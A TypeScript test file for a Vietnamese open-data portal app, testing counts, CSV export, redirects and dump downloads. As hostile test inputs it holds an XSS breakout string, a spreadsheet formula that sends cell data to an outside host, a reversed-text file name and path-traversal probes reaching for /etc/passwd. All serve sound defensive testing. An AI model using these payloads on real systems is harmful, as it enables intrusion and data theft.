import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { writeDump } from '../../../cli/write-dump.ts'
import { aStoredDocument } from '../../support/a-document.ts'
import { aPassage } from '../../support/a-passage.ts'
import { aPortal, aRegistry } from '../../support/a-portal.ts'
import { NOW, type RunningApp, startApp } from '../../support/an-app.ts'

const BREAKOUT = `"'><script>alert(1)</script><img src=x onerror=alert(1)>`
const FORMULA = '=HYPERLINK("http://x.test?"&A1,"xem")'
const REVERSED = 'abc\u202Efdp.exe'

let app: RunningApp
let empty: RunningApp
let dumpDir: string
beforeAll(async () => {
  const registry = aRegistry(
    aPortal({ id: 'cong-thuc', name: FORMULA, baseUrls: ['https://a.test'], formerIds: ['ten-cu'] }),
    aPortal({
      id: 'pha',
      name: `Cổng ${BREAKOUT}`,
      formerNames: [{ name: BREAKOUT, until: null }],
      baseUrls: ['https://b.test'],
    }),
    aPortal({ id: 'dao-chieu', name: REVERSED, baseUrls: ['https://c.test'] }),
    aPortal({ id: 'chua-ro', name: 'Cổng chưa rõ địa chỉ', baseUrls: [] }),
  )
  dumpDir = await mkdtemp(join(tmpdir(), 'open-data-'))
  const documents = [aStoredDocument({ pageId: 'a', portalId: 'pha', title: BREAKOUT, kind: 'legal-document' })]
  await writeDump({ after: async (last) => (last === '' ? documents : []) }, registry, dumpDir, NOW)
  await writeFile(join(dumpDir, 'secret.txt'), 'secret')
  app = await startApp({
    registry,
    dumpDir,
    passages: [
      aPassage({ id: 'mot', portal: 'cong-thuc', topics: [FORMULA], publishedAt: Date.UTC(2026, 0, 13) / 1000 }),
      aPassage({ id: 'hai', portal: 'pha', title: BREAKOUT, topics: [BREAKOUT], publishedAt: Date.UTC(2025, 10, 2) / 1000 }),
      aPassage({ id: 'ba', portal: 'dao-chieu', publishedAt: null }),
    ],
  })
  empty = await startApp({ registry, dumpDir: join(dumpDir, 'not-there') })
})
afterAll(async () => {
  await app.close()
  await empty.close()
  await rm(dumpDir, { recursive: true })
})

const get = async (path: string, server = app) => {
  const response = await fetch(server.url + path, { redirect: 'manual' })
  return { status: response.status, headers: response.headers, text: await response.text() }
}
const rowsOf = async (query: string) => JSON.parse((await get(`/du-lieu.json?${query}`)).text).rows

test.each([
  ['kind', [['news', 3]]],
  ['year', [['2026', 3]]],
  [
    'portal',
    [
      ['cong-thuc', 1],
      ['dao-chieu', 1],
      ['pha', 1],
    ],
  ],
] as const)('documents are counted by %s', async (by, expected) => {
  const rows = await rowsOf(`by=${by}`)
  const counted = rows.map(({ id, documents }: { id: string; documents: number }) => [id, documents])
  expect(counted.toSorted()).toEqual(expected)
})

test('by month there is a row for every month, also for those without documents; undated ones are in none', async () => {
  const { rows, total, from, to } = JSON.parse((await get('/du-lieu.json?by=month&from=2025-11-05&to=2026-01-01')).text)
  expect(rows).toEqual([
    { id: '2025-11', label: '11/2025', documents: 1 },
    { id: '2025-12', label: '12/2025', documents: 0 },
    { id: '2026-01', label: '01/2026', documents: 1 },
  ])
  expect([total, from, to]).toEqual([2, '2025-11-01', '2026-01-31'])
})

test('filters and words count too, and a chosen value of what is counted stands alone', async () => {
  expect(await rowsOf('by=portal&portal=pha')).toMatchObject([{ id: 'pha', documents: 1 }])
  expect(await rowsOf('by=kind&q=khongcogi')).toEqual([])
  // Empty fields, as the form sends them.
  expect(await rowsOf('by=kind&q=&kind=&level=&province=&topic=&from=&to=')).toMatchObject([{ documents: 3 }])
})

test('a faulty parameter is refused: with a code for programs, with a page for people', async () => {
  const json = await get('/du-lieu.json?by=color')
  expect([json.status, JSON.parse(json.text).error.code]).toEqual([400, 'BAD_QUERY'])
  const page = await get('/du-lieu?by=color')
  expect([page.status, page.headers.get('content-type')]).toEqual([400, 'text/html; charset=utf-8'])
})

test('a spreadsheet calculates nothing of the CSV, and no name in it reads backwards', async () => {
  const { headers, text } = await get('/du-lieu.csv?by=portal')
  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(headers.get('content-disposition')).toBe('attachment; filename=lien-cong-portal.csv')
  expect(text).toContain(`cong-thuc,"'=HYPERLINK(""http://x.test?""&A1,""xem"")",1\r\n`)
  expect(text).not.toContain('\u202E')
  const topics = (await get('/du-lieu.csv?by=topic')).text
  expect(topics).toContain(`"'=HYPERLINK`)
})

test('the same table is not sent twice to whoever has it, and pages of any site may read it', async () => {
  const first = await fetch(`${app.url}/du-lieu.json?by=kind`)
  expect(first.headers.get('access-control-allow-origin')).toBe('*')
  const again = await fetch(`${app.url}/du-lieu.json?by=kind`, { headers: { 'if-none-match': first.headers.get('etag') ?? '' } })
  expect(again.status).toBe(304)
})

test.each(['/du-lieu?by=portal', '/du-lieu?by=topic', '/cong', '/cong/pha', '/cong/cong-thuc', '/du-lieu-mo', '/cong?lang=en'])(
  '%s shows hostile names as text',
  async (path) => {
    const { status, text } = await get(`${path}${path.includes('?') ? '&' : '?'}q=${encodeURIComponent(BREAKOUT)}`)
    const plain = await get(path)
    expect([status, plain.status]).toEqual([200, 200])
    for (const page of [text, plain.text]) {
      expect(page).not.toMatch(/<script>|<img src=x|javascript:/)
      expect(page.match(/<script/g)).toHaveLength(1)
    }
  },
)

test('a portal by a former id leads to that of today; one that nobody knows is not there', async () => {
  const former = await get('/cong/ten-cu')
  expect([former.status, former.headers.get('location')]).toEqual([301, '/cong/cong-thuc'])
  expect((await get('/cong/khong-co')).status).toBe(404)
  expect((await get('/cong/__proto__')).status).toBe(404)
  expect((await get('/cong/chua-ro')).text).toContain('Chưa rõ địa chỉ')
})

test('with the engine away a portal still has its page, and living data says to come back', async () => {
  app.engine.isAway = true
  try {
    const portal = await get('/cong/pha')
    expect([portal.status, portal.text.includes('chưa trả lời được lúc này')]).toEqual([200, true])
    expect((await get('/du-lieu?by=level')).status).toBe(503)
  } finally {
    app.engine.isAway = false
  }
  expect((await get('/du-lieu?by=level')).status).toBe(200)
})

test('the dump is there to take along, and nothing else of its folder', async () => {
  const page = (await get('/du-lieu-mo')).text
  expect(page).toContain('href="/du-lieu-mo/documents-2026-01-14.jsonl.gz"')
  const file = await get('/du-lieu-mo/documents-2026-01-14.jsonl.gz')
  expect([file.status, file.headers.get('access-control-allow-origin')]).toEqual([200, '*'])
  expect(JSON.parse((await get('/du-lieu-mo/manifest.json')).text).documents).toBe(1)
  for (const path of ['secret.txt', '..%2Fsecret.txt', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'x%00'])
    expect([path, (await get(`/du-lieu-mo/${path}`)).status >= 400]).toEqual([path, true])
})

test('without a dump the page says so and still helps', async () => {
  const { status, text } = await get('/du-lieu-mo', empty)
  expect([status, text.includes('chưa có bản đầy đủ'), text.includes('/du-lieu')]).toEqual([200, true, true])
  expect((await get('/du-lieu-mo/manifest.json', empty)).status).toBe(404)
})
